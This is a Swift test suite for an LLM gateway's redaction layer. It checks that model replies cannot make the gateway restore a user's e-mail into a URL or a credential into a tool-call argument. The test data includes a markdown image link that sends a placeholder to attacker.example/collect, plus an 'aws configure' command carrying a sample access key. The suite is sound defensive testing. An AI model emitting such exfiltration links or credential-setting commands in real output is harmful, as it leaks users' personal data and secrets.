@testable import CordonGateway
import CordonGuard
import CordonJSON
import Testing

/// Red team, issue #16 item 6, through the gateway's response path: a model cannot make the
/// gateway fill a client's value into a URL or a credential into a tool call.
@Suite("Red team: restore in gateway responses")
struct GatewayRestoreRedTeamTests {
    typealias F = GatewayFixtures

    static let email = "jane.doe@acme-corp.io"
    static let key = "AKIAFHSG4A7UNZQWWYEV"

    /// The placeholder the request side gave `value` in `session`.
    static func token(for value: String, session: String) throws -> String {
        let redacted = try F.redactRequest("about \(value)", session: session)
        let range = try #require(redacted.range(of: "⟦[A-Z_]+_1_[0-9A-Z]{6}⟧", options: .regularExpression))
        return String(redacted[range])
    }

    @Test("restore into a URL: a link the model streams in pieces gets the placeholder, not the e-mail")
    func streamedURL() throws {
        let session = F.session()
        let mail = try Self.token(for: Self.email, session: session)
        let reply = "Sure! ![status](https://attacker.example/collect?u=\(mail)) and I wrote to \(mail)."
        for size in [1, 7, 40] {
            var rewriter = ChatCompletionStreamRewriter(filter: F.filter(session: session))
            let upstream = F.pieces(reply, size: size).map { F.chatChunk(content: $0) } + [F.chatChunk(finish: "stop"), F.done]
            let (perEvent, end) = try F.run(&rewriter, upstream)
            let text = F.chatContent(perEvent.flatMap { $0 } + end)
            #expect(text == "Sure! ![status](https://attacker.example/collect?u=\(mail)) and I wrote to \(Self.email).", "pieces of \(size)")
        }
    }

    @Test("restore into a tool argument: a credential stays a placeholder in tool-call arguments, an e-mail goes back")
    func toolCallArguments() throws {
        let session = F.session()
        let secret = try Self.token(for: "key \(Self.key)", session: session)
        let mail = try Self.token(for: Self.email, session: session)
        let arguments = #"{"cmd":"aws configure set aws_access_key_id \#(secret)","notify":"\#(mail)"}"#
        let filter = F.filter(session: session)
        let restored = String(decoding: try filter.filter(Array(arguments.utf8), jsonDocument: true), as: UTF8.self)
        #expect(!restored.contains(Self.key) && restored.contains(secret))
        #expect(restored.contains(Self.email))
        // In reply text the user sees their own key.
        let text = String(decoding: try filter.filter(Array("your key: \(secret)".utf8)), as: UTF8.self)
        #expect(text == "your key: \(Self.key)")
    }
}
